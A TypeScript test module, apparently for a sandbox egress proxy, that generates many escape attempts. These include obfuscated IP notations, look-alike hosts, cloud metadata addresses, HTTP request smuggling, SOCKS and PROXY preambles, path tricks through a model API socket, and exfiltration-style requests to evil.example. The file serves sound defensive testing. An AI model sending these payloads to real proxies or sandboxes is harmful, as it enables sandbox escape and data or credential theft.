import type { Attempt } from './egress-probe.ts';

/** Ways of a hostile program to a host that nobody allowed to its task. */

export interface Place {
  /** an address that counts as public in the test, and one that no answer can open */
  public: string;
  loopback: string;
  /** listens on all addresses; on loopback alone; for datagrams */
  ports: { everywhere: number; loopback: number; udp: number };
  /** `host:port` that the task may reach by CONNECT, and by plain HTTP */
  allowed: { tunnel: string; plain: string };
}

/** The path of every request that may arrive. */
export const MARK = '/allowed';

const CRLF = '\r\n';
const head = (...lines: string[]): string => `${lines.join(CRLF)}${CRLF}${CRLF}`;
const both = <A, B>(as: readonly A[], bs: readonly B[]): [A, B][] => as.flatMap((a) => bs.map((b): [A, B] => [a, b]));
const said = (what: string, text: string): string => `${what}: ${JSON.stringify(text.slice(0, 120))}`;

/** An IPv4 address as programs have been seen to write it. */
function notations(ip: string): string[] {
  const parts = ip.split('.').map(Number) as [number, number, number, number];
  const [a, b, c, d] = parts;
  const number = ((a << 24) | (b << 16) | (c << 8) | d) >>> 0;
  const hex = (n: number, size = 2) => n.toString(16).padStart(size, '0');
  const low = `${hex(a)}${hex(b)}:${hex(c)}${hex(d)}`;
  return [
    ip,
    `${ip}.`,
    String(number),
    `0x${hex(number, 8)}`,
    `0${number.toString(8)}`,
    parts.map((n) => `0x${hex(n)}`).join('.'),
    parts.map((n) => `0${n.toString(8)}`).join('.'),
    `${a}.${b}.${(c << 8) | d}`,
    `${a}.${(b << 16) | (c << 8) | d}`,
    parts.join('。'),
    parts.map((n) => String(n).replace(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit)))).join('.'),
    ip.replace(/\d/g, (digit) => `%3${digit}`),
    `[::ffff:${ip}]`,
    `[::ffff:${low}]`,
    `[0:0:0:0:0:ffff:${low}]`,
    `[::${ip}]`,
    `[::ffff:0:${low}]`,
    `[64:ff9b::${low}]`,
    `[2002:${low}::]`,
    `[::ffff:${ip}%25lo]`,
  ];
}

const UNRULED = [
  'secret-4711.evil.example',
  'metadata.google.internal',
  'host.docker.internal',
  'localhost',
  'xn--e1afmkfd.example',
];

/** Names and ports that are like an allowed one, and are not it. */
function lookAlikes({ allowed, ports }: Place): string[] {
  const [host, port] = allowed.tunnel.split(':') as [string, string];
  const near = [
    `x${host}`,
    `${host}.evil.example`,
    `sub.${host}`,
    `${host}@evil.example`,
    `evil.example#${host}`,
    `evil.example/${host}`,
    `${host}\\.evil.example`,
  ];
  const bent = [
    `${host}%00.evil.example`,
    `${host}\t.evil.example`,
    `evil.example?${host}`,
    `[${host}]`,
    `${host}:${port}:evil.example`,
    `*.${host}`,
    '*',
    '',
  ];
  const elsewhere = [ports.everywhere, ports.loopback, 0, 65_536, 443, 80].map((other) => `${host}:${other}`);
  return [
    ...[...near, ...bent].map((name) => `${name}:${port}`),
    ...elsewhere,
    `${host}:${port}0`,
    `${host}: ${port}1`,
    `${host}:-1`,
    host,
  ];
}

/** CONNECT to names. */
export function names(place: Place): Attempt[] {
  const many = Array.from({ length: 70 }, (_, n) => `n${n}.${'data'.repeat(12)}.evil.example`);
  const plain = both([...UNRULED, ...many], [443, place.ports.everywhere]).map(([name, port]) => `${name}:${port}`);
  return [...plain, ...lookAlikes(place)].flatMap((target): Attempt[] => [
    {
      what: said('CONNECT', target),
      via: 'egress',
      send: [
        head(`CONNECT ${target} HTTP/1.1`, `Host: ${place.allowed.tunnel}`),
        head(`GET ${target} HTTP/1.1`, `Host: ${target}`),
      ],
    },
  ]);
}

/** CONNECT to addresses. */
export function addresses({ public: open, loopback, ports }: Place): Attempt[] {
  const hosts = [open, loopback, '0.0.0.0', '169.254.169.254'].flatMap(notations);
  const others = [
    '[::1]',
    '[::]',
    '[fe80::1]',
    '[fd00:ec2::254]',
    '[::ffff:0:0]',
    '0',
    '127.1',
    '0x7f.1',
    '017700000001',
    '[::1%25lo]',
  ];
  return both([...hosts, ...others], [ports.everywhere, ports.loopback]).map(([host, port]) => ({
    what: said('CONNECT', `${host}:${port}`),
    via: 'egress',
    send: [head(`CONNECT ${host}:${port} HTTP/1.1`, `Host: ${host}:${port}`), 'escape'],
  }));
}

/** Plain HTTP in the form of a proxy's requests. */
export function plain({ public: open, loopback, ports, allowed }: Place): Attempt[] {
  const name = allowed.tunnel.split(':')[0]!;
  const hosts = [...UNRULED, name, `${name}:80`, `user:secret@evil.example`, `evil.example:${ports.everywhere}`];
  const ips = [open, loopback].flatMap((ip) => notations(ip).map((host) => `${host}:${ports.everywhere}`));
  const targets = [...hosts, ...ips, `[::1]:${ports.loopback}`, `localhost:${ports.loopback}`];
  const get = targets.map((target) => head(`GET http://${target}/secret HTTP/1.1`, `Host: ${allowed.plain}`));
  const post = targets.map(
    (target) =>
      `${head(`POST http://${target}/ HTTP/1.1`, `Host: ${target}`, 'Content-Length: 6', 'Expect: 100-continue')}secret`,
  );
  const other = ['https', 'ftp', 'ws', 'file', 'gopher', 'HTTP', ''].map((scheme) =>
    head(`GET ${scheme}://evil.example:${ports.everywhere}/ HTTP/1.1`, `Host: ${allowed.plain}`),
  );
  return [...get, ...post, ...other].map((request) => ({
    what: said('plain', request),
    via: 'egress',
    send: [request],
  }));
}

/** Requests that two readers could understand in two ways, and what follows an allowed one on its connection. */
export function smuggled({ public: open, loopback, ports, allowed }: Place): Attempt[] {
  const ok = `http://${allowed.plain}${MARK}`;
  const targets = [
    `evil.example:${ports.everywhere}`,
    `${open}:${ports.everywhere}`,
    `${loopback}:${ports.loopback}`,
    `localhost:${ports.everywhere}`,
  ];
  const inner = (target: string) => [
    head(`GET http://${target}/smuggled HTTP/1.1`, `Host: ${target}`),
    head(`CONNECT ${target} HTTP/1.1`, `Host: ${target}`),
    head('GET /smuggled HTTP/1.1', `Host: ${target}`),
  ];
  const outer = (hidden: string): string[][] => [
    // on the same connection, after the answer and before it
    [head(`GET ${ok}/1 HTTP/1.1`, `Host: ${allowed.plain}`, 'Connection: keep-alive'), hidden],
    [`${head(`GET ${ok}/2 HTTP/1.1`, `Host: ${allowed.plain}`)}${hidden}`],
    // two lengths, and lengths that are none
    [
      `${head(`POST ${ok}/3 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 5', 'Transfer-Encoding: chunked')}0${CRLF}${CRLF}${hidden}`,
    ],
    [
      `${head(`POST ${ok}/4 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 0', `Content-Length: ${hidden.length}`)}${hidden}`,
    ],
    [
      `${head(`POST ${ok}/5 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}0;x=${CRLF}${CRLF}${hidden}`,
    ],
    [
      `${head(`POST ${ok}/6 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: xchunked')}0${CRLF}${CRLF}${hidden}`,
    ],
    [
      `${head(`POST ${ok}/7 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}ffffffffffffffff1${CRLF}${hidden}`,
    ],
    [`${head(`POST ${ok}/8 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: +0')}${hidden}`],
    // header lines within header lines
    [head(`GET ${ok}/9 HTTP/1.1`, `Host: ${allowed.plain}`, `X: y\n${hidden}`)],
    [head(`GET ${ok}/10 HTTP/1.1`, `Host: ${allowed.plain}`, ` ${hidden}`)],
    [
      `${head(`GET ${ok}/11 HTTP/1.1`, `Host: ${allowed.plain}`, 'Connection: upgrade', 'Upgrade: websocket')}${hidden}`,
    ],
    [`GET ${ok}/12 HTTP/1.1\nHost: ${allowed.plain}\n\n${hidden}`],
    // a refused one first
    [head('CONNECT evil.example:1 HTTP/1.1', 'Host: x'), hidden],
  ];
  const doubled = targets.flatMap((target) => [
    head(`GET ${ok}/20 HTTP/1.1`, `Host: ${target}`),
    head(`GET ${ok}/21 HTTP/1.1`, `Host: ${allowed.plain}`, `Host: ${target}`),
    head(`GET ${ok}/22 HTTP/1.1`, `Host: ${target}`, `X-Forwarded-Host: ${target}`, `Forwarded: host=${target}`),
    head(`GET ${ok}@${target}/23 HTTP/1.1`, `Host: ${allowed.plain}`),
    head(`GET http://${target}\\@${allowed.plain}${MARK}/24 HTTP/1.1`, `Host: ${allowed.plain}`),
    head(`GET ${ok}/25\tHTTP/1.1 HTTP/1.1`, `Host: ${target}`),
  ]);
  return [...targets.flatMap(inner).flatMap(outer), ...doubled.map((request) => [request])].map((send) => ({
    what: said('smuggled', send.join('')),
    via: 'egress',
    send,
  }));
}

/** What is no request to a proxy. */
export function strange({ public: open, loopback, ports }: Place): Attempt[] {
  const targets = [
    `evil.example:${ports.everywhere}`,
    `${open}:${ports.everywhere}`,
    `${loopback}:${ports.loopback}`,
    `localhost:${ports.everywhere}`,
  ];
  const requests = targets.flatMap((target) => [
    ...['GET', 'POST', 'OPTIONS', 'TRACE', 'PROPFIND', 'BREW'].map((method) =>
      head(`${method} / HTTP/1.1`, `Host: ${target}`),
    ),
    ...['GET', 'HEAD', 'DELETE', 'TRACE'].map((method) => head(`${method} //${target}/ HTTP/1.1`, `Host: ${target}`)),
    head('OPTIONS * HTTP/1.1', `Host: ${target}`),
    head('GET / HTTP/1.1', `Host: ${target}`, 'Connection: upgrade', 'Upgrade: websocket'),
    head(
      'GET / HTTP/1.1',
      `Host: ${target}`,
      'Connection: upgrade, http2-settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABk',
    ),
    head(`GET ${target} HTTP/1.0`),
    `GET http://${target}/\r\n`,
    `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${target}`,
    `PROXY TCP4 127.0.0.1 ${target.replace(':', ' 1 ')}\r\n`,
    `\u0004\u0001\u0000P\u0000\u0000\u0000\u0001x\u0000${target}\u0000`,
    `\u0005\u0001\u0000`,
    '\u0016\u0003\u0001\u0000\u0005hello',
  ]);
  return requests.map((request) => ({ what: said('strange', request), via: 'egress', send: [request, 'escape'] }));
}

/** The socket of the model as a way elsewhere. */
export function throughTheModel({ public: open, loopback, ports }: Place): Attempt[] {
  const targets = [open, loopback, 'localhost', 'evil.example', '[::1]', '2130706433'].flatMap((host) => [
    `${host}:${ports.everywhere}`,
    `${host}:${ports.loopback}`,
  ]);
  const body = '{"model":"m","messages":[]}';
  const call = (path: string, ...lines: string[]) =>
    `${head(`POST ${path} HTTP/1.1`, ...lines, 'Content-Type: application/json', `Content-Length: ${body.length}`)}${body}`;
  return targets.flatMap((target) =>
    [
      head(`CONNECT ${target} HTTP/1.1`, `Host: ${target}`),
      head(`GET http://${target}/v1/models HTTP/1.1`, `Host: ${target}`),
      call(`http://${target}/anthropic/v1/messages`, `Host: ${target}`),
      call(`//${target}/anthropic/v1/messages`, `Host: ${target}`),
      call(`/anthropic@${target}/v1/messages`, `Host: ${target}`),
      call(`/anthropic/..//${target}/v1/messages`, `Host: ${target}`),
      call(`/anthropic/%2e%2e/%2f%2f${target}/v1/messages`, `Host: ${target}`),
      call(`/gemini/v1beta/models/m@${target}:generateContent`, `Host: ${target}`),
      call(`/gemini/v1beta/models/..%2f..%2f@${target}%2fm:generateContent`, `Host: ${target}`),
      call(`/openai/v1/files?url=http://${target}`, `Host: ${target}`),
      call(`\\\\${target}\\v1\\messages`, `Host: ${target}`),
      head('GET /anthropic/v1/organizations HTTP/1.1', `Host: ${target}`, 'Connection: upgrade', 'Upgrade: websocket'),
    ].map((request): Attempt => ({ what: said('model', request), via: 'model', send: [request, 'escape'] })),
  );
}

/** Sockets and names past the gate. */
export function direct(hosts: readonly string[], { ports }: Place): Attempt[] {
  const tcp = both(hosts, [
    ports.everywhere,
    ports.loopback,
    22,
    53,
    80,
    443,
    2375,
    3306,
    5432,
    6379,
    7233,
    7878,
    8765,
  ]);
  const udp = both(hosts, [ports.udp, 53, 123]);
  const names = [
    ...UNRULED.filter((name) => name !== 'localhost'),
    'example.com',
    'gateway.docker.internal',
    'host.containers.internal',
    'deb.example.com',
  ];
  return [
    ...tcp.map(([host, port]): Attempt => ({ what: `TCP ${host}:${port}`, via: 'tcp', host, port, send: ['escape'] })),
    ...udp.map(([host, port]): Attempt => ({ what: `UDP ${host}:${port}`, via: 'udp', host, port })),
    ...hosts.map(
      (host): Attempt => ({
        what: `DNS at ${host}`,
        via: 'nameserver',
        host: host.includes(':') ? `[${host}]` : host,
        port: ports.udp,
      }),
    ),
    ...names.map((host): Attempt => ({ what: `name ${host}`, via: 'resolver', host })),
  ];
}
